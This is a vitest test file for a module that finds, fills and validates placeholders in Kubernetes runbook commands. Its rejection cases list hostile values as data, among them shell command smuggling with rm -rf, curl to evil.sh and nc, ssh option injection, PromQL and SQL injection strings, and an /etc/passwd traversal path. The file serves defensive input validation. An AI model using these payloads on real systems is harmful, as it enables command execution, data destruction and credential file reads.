import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { fill, findPlaceholders, validateValue, valuesFromLabels } from '../../src/diagnostics/placeholders.js';

/** `${NAMESPACE}` as a runbook writes it. */
const BRACED = '$' + '{NAMESPACE}';

describe('placeholders', () => {
  it('finds <angle>, braced and $BARE placeholders once each, in order', () => {
    expect(findPlaceholders(`kubectl logs <pod-name> -n ${BRACED} --since=$SINCE && <pod-name>`)).toEqual([
      'pod-name',
      'NAMESPACE',
      'SINCE',
    ]);
  });

  it('fills values from alert labels through aliases', () => {
    const v = valuesFromLabels({ pod: 'api-1', namespace: 'prod', deployment: 'api', alertname: 'X' });
    expect(v['pod-name']).toBe('api-1');
    expect(v.ns).toBe('prod');
    expect(v['deployment-name']).toBe('api');
    expect(v.alertname).toBe('X');
  });

  it('maps kube-state-metrics style labels onto the usual names', () => {
    const v = valuesFromLabels({ exported_namespace: 'shop', kubernetes_pod_name: 'web-0' });
    expect(v.namespace).toBe('shop');
    expect(v['pod-name']).toBe('web-0');
  });

  it('lets a direct label win over a synonym', () => {
    expect(valuesFromLabels({ namespace: 'monitoring', exported_namespace: 'shop' }).namespace).toBe('monitoring');
  });

  it('fills text by the name as written', () => {
    expect(fill(`kubectl logs <pod-name> -n ${BRACED}`, { 'pod-name': 'a', NAMESPACE: 'b' })).toBe(
      'kubectl logs a -n b',
    );
  });

  it.each([
    ['pod-name', 'api-1; rm -rf /'],
    ['pod-name', '$(curl evil.sh)'],
    ['namespace', 'prod`id`'],
    ['namespace', 'Prod'],
    ['namespace', 'a.b'],
    ['pod-name', '--all-namespaces'],
    ['instance', '10.0.0.1:9100"} or vector(1) or {a="'],
    ['DB_HOST', 'db | nc evil 1'],
    ['DB_HOST', '-oProxyCommand=x'],
    ['table', "users' OR '1'='1"],
    ['table', 'a b'],
    ['path', '../../etc/passwd'],
    ['x', ''],
  ])('refuses %s = %j and names the placeholder', (name, value) => {
    expect(() => validateValue(name, value)).toThrow(new RegExp(`<${name}>`));
  });

  it.each([
    ['pod-name', 'api-7d9f8b6c5d-x2x9q'],
    ['namespace', 'prod'],
    ['node-name', 'ip-10-0-1-12.eu-west-1.compute.internal'],
    ['instance', '10.0.1.12:9100'],
    ['DB_HOST', 'orders-db.prod.svc'],
    ['since', '5m'],
  ])('accepts %s = %j', (name, value) => {
    expect(validateValue(name, value)).toBe(value);
  });

  it('never lets a shell metacharacter through, for any value', () => {
    fc.assert(
      fc.property(fc.string(), fc.constantFrom('pod-name', 'namespace', 'DB_HOST', 'instance'), (value, name) => {
        try {
          const v = validateValue(name, value);
          expect(v).not.toMatch(/[\s;&|`$()<>'"\\*?!{}[\]#~]/);
          expect(v.startsWith('-')).toBe(false);
        } catch (e) {
          expect((e as Error).name).toBe('ValidationError');
        }
      }),
      { numRuns: 2000 },
    );
  });
});
